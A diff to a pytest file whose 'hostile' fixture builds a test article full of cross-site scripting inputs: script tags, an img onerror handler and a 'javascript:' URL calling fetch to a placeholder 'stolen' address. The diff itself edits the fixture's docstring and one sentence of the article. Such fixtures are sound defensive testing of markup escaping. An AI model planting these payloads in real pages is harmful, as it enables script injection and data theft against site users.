@@ -195,7 +195,8 @@ def test_output_folder_that_cannot_be_written(tmp_path: Path) -> None:
 
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """An article carrying markup and no dates, and a title trying to break out of its string."""
+    """An article carrying markup and no dates of events (a capture in 2022 is listed as context),
+    and a title trying to break out of its string."""
     root = tmp_path_factory.mktemp("hostile")
     articles = root / "articles"
     articles.mkdir()
@@ -204,7 +205,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
         "markup.md",
         "---\ntitle: <script>document.title='pwned'</script>Markup\n"
         "url: \"javascript:document.title='pwned';fetch('https://example.net/stolen')\"\n---\n"
-        "A soldier was captured <img src=x onerror=\"document.title='pwned'\">.\n\n"
+        "A soldier was captured in 2022 <img src=x onerror=\"document.title='pwned'\">.\n\n"
         "<script>document.title = 'pwned';</script> Prisoners were exchanged.",
     )
     write(articles, "linked.md", "---\ntitle: Linked\nurl: https://example.org/talks\n---\nTalks went on.")
